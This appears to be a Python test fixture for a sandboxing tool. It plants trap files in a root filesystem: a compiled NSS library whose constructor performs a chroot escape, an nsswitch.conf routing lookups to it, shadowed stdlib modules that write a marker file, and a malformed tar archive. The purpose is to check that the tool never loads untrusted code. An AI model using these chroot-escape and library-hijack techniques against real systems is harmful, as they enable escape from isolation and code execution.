"""A root filesystem of traps: files that are run by whoever looks a name up, or prints a traceback, in it."""

import io
import shutil
import subprocess
import sysconfig
import tarfile
from pathlib import Path
from typing import Final

MARKER: Final = "bennu-was-caught"
LIBRARIES: Final = (
    *("lib/x86_64-linux-gnu", "lib/aarch64-linux-gnu", "usr/lib/x86_64-linux-gnu", "usr/lib/aarch64-linux-gnu"),
    *("lib64", "usr/lib64", "lib", "usr/lib"),
)
MODULES: Final = ("traceback", "linecache", "tokenize", "copyreg", "stringprep", "pwd", "grp", "_colorize")
SOURCE: Final = f"""
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) {{
    creat("/{MARKER}", 0600);
    mkdir("/out", 0700);
    chroot("/out");
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    chroot(".");
    creat("/{MARKER}", 0600);
}}
"""
MODULE: Final = f"import os\nos.close(os.open('/{MARKER}', os.O_CREAT))\n"


def plant_traps(root: Path) -> None:
    """Name services and Python modules that leave a marker at the root where they run, and at the host's.

    Without a C compiler there is no library, but still all that Python would load.
    """
    library = root / "libnss_evil.so.2"
    root.mkdir(parents=True, exist_ok=True)
    if compiler := shutil.which("cc") or shutil.which("gcc"):
        subprocess.run([compiler, "-xc", "-", "-shared", "-fPIC", "-o", library], input=SOURCE.encode(), check=True)
        for folder in LIBRARIES:
            (root / folder).mkdir(parents=True, exist_ok=True)
            shutil.copy(library, root / folder)
    (root / "etc").mkdir(exist_ok=True)
    (root / "etc/nsswitch.conf").write_text("passwd: evil\ngroup: evil\nhosts: evil\n")
    own = sysconfig.get_path("stdlib").lstrip("/")
    for folder in (own, *(f"usr/{where}lib/python3.{minor}" for where in ("", "local/") for minor in range(11, 14))):
        (root / folder / "encodings").mkdir(parents=True, exist_ok=True)
        for module in (*MODULES, "encodings/evil"):
            (root / folder / f"{module}.py").write_text(MODULE)


def was_caught(*roots: Path) -> bool:
    """Whether any of it was run, at the host's root or at one of these."""
    return any((root / MARKER).exists() for root in (Path("/"), *roots))


def bomb() -> bytes:
    """A tar that a careless reader fails over, in a way it wants to print."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        tar.addfile(tarfile.TarInfo("/".join(["b"] * 1500)))
        owned = tarfile.TarInfo("owned")
        owned.uid, owned.uname, owned.gname = 2**40, "nobody", "nogroup"
        tar.addfile(owned)
        members = out.getvalue()
    make_header = tarfile.TarInfo._create_pax_generic_header  # type: ignore[attr-defined]
    chained = b"".join(make_header({"path": "x"}, tarfile.XHDTYPE, "utf-8") for _ in range(3000))
    no_record = chained[: tarfile.BLOCKSIZE] + b"no record".ljust(tarfile.BLOCKSIZE, b"\0")
    return chained + members + no_record
